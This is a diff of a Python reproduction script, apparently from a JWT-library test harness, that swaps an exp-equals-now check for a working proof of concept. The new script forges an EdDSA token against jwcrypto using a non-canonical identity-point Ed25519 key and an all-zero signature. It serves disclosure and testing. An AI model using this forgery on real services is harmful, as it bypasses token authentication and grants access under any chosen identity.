@@ -1,21 +1,27 @@
 #!/usr/bin/env python3
-"""jwcrypto accepts a JWT at the very second it expires: given the verification time as
-check_claims["exp"] (its clock injection), it compares exp < now, so a token whose exp equals
-the current time is still accepted (one second too long).
+"""jwcrypto accepts a token signed by nobody: the key set's one Ed25519 key is the
+identity point in a non-canonical encoding (x = 0 with the sign bit set: x = "AQAA…AIA"), which
+is no valid public key, and the token's signature is R = the identity, S = 0, which verifies under
+that key for every message. The library loads the key without checking it (cryptography's
+Ed25519PublicKey.from_public_bytes, which takes any 32 bytes) and OpenSSL's Ed25519 verification
+accepts the signature, so anyone can mint tokens "signed" by such a key.
 
-RFC 7519 §4.1.4: "The "exp" (expiration time) claim identifies the expiration time on or after
-which the JWT MUST NOT be accepted for processing. The processing of the "exp" claim requires
-that the current date/time MUST be before the expiration date/time listed in the "exp" claim."
-(RFC 9068 §4: "The current time MUST be before the time represented by the "exp" claim.")
+RFC 8037 §3.1.2: "Verification is performed by applying the verification algorithm defined in
+[RFC8032] to the public key (as public key) …"; RFC 8032 §5.1.3, decoding a point: "If x = 0, and
+x_0 = 1, decoding fails." (and §5.1.7 verifies only a public key A that decodes).
 
-Reproduces: time/exp-equals-now (policy-bypass)
+Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)
 
-(jwcrypto also accepts time/nbf-now-plus-1 and the like: it does not check nbf once check_claims
-is given without nbf. Those vectors are profile, since RFC 7519 §4.1 makes no claim mandatory to
-implement; exp = now breaks a MUST under any reading.)
+(The same root cause accepts eddsa/key-non-canonical-identity-y-p-plus-1(-sign-bit),
+key-non-canonical-order2-sign-bit and key-non-canonical-order4-y-p(-sign-bit): other small-order
+points, non-canonically encoded. The library has no setting that checks an OKP key.)
 
 Run (after scripts/setup.sh): adapters/jwcrypto/.venv/bin/python adapters/jwcrypto/repro.py
-Configured as adapters/jwcrypto/adapter.py configures it; needs only jwcrypto.
+Configured as adapters/jwcrypto/adapter.py configures it; needs only jwcrypto (with cryptography).
+jwcrypto: JWKSet.from_json -> JWK OKP import -> Ed25519PublicKey.from_public_bytes, no check.
+(jwcrypto's other forgery root cause, ES512 signatures of the wrong length split in halves, is
+repro-es512-short-signature.py. Before the adapter declared every algorithm, its gravest finding
+was time/exp-equals-now, policy-bypass: exp = now is still accepted.)
 """
 
 import json
@@ -25,35 +31,32 @@ from jwcrypto import jwt
 from jwcrypto.common import JWException, json_decode
 from jwcrypto.jwk import JWKSet
 
-VECTOR = "time/exp-equals-now"
+VECTOR = "eddsa/key-non-canonical-identity-sign-bit"
 TOKEN = (
-    "eyJhbGciOiJFUzI1NiIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ"
-    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjE3MDAwMDAwMDAsImlhdCI6MTY"
-    "5OTk5OTk5MCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZ"
-    "QN1E4UjlTMFQxVjIifQ"
-    ".R3HfUjiP8kUeiAgIuZC9Zcs8EVNkQNTWcQ46TOeg1Kf4KF26AbrWVTAp4u9uTs5fpLYMEOcguAG9vhUDYcXVBA"
+    "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ"
+    ".eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6"
+    "MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNL"
+    "NE01TjZQN1E4UjlTMFQxVjIifQ"
+    ".AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
 )
-JWKS = {"keys": [{"alg": "ES256", "crv": "P-256", "kid": "primary", "kty": "EC", "use": "sig",
-                  "x": "Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE",
-                  "y": "opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI"}]}
-ISSUER, AUDIENCES, ALGORITHMS, NOW, LEEWAY = "https://issuer.example", ["https://api.example"], ["ES256"], 1700000000, 0
+JWKS = {"keys": [{"alg": "EdDSA", "crv": "Ed25519", "kid": "ed25519", "kty": "OKP", "use": "sig",
+                  "x": "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}
+ISSUER, AUDIENCES, ALGORITHMS, NOW, LEEWAY = "https://issuer.example", ["https://api.example"], ["EdDSA"], 1700000000, 0
 
 
 def main():
-    check = {"iss": ISSUER, "aud": AUDIENCES, "exp": NOW, "iat": None, "sub": None, "client_id": None, "jti": None}
+    check = {"exp": NOW, "iat": None, "iss": ISSUER, "aud": AUDIENCES, "sub": None, "client_id": None, "jti": None}
     token = jwt.JWT(algs=ALGORITHMS, check_claims=check, expected_type="JWS", strict_serialization=True)
     token.leeway = LEEWAY
     try:
         token.deserialize(TOKEN, JWKSet.from_json(json.dumps(JWKS)))
+        claims = json_decode(token.claims)
     except (JWException, ValueError, TypeError) as error:
         print(f"NOT REPRODUCED {VECTOR}: jwcrypto rejected the token: {type(error).__name__}: {error}")
         return 1
-    exp = json_decode(token.claims)["exp"]
-    if exp == NOW:
-        print(f"REPRODUCED {VECTOR}: jwcrypto accepted a token with exp = now = {NOW} (no leeway) instead of rejecting it as expired")
-        return 0
-    print(f"NOT REPRODUCED {VECTOR}: jwcrypto accepted, but exp is {exp!r}, not {NOW}")
-    return 1
+    print(f"REPRODUCED {VECTOR}: jwcrypto accepted a token whose EdDSA signature is R = identity, S = 0 under a "
+          f"non-canonical identity public key (a signature anyone can make for any claims): sub = {claims.get('sub')!r}")
+    return 0
 
 
 if __name__ == "__main__":
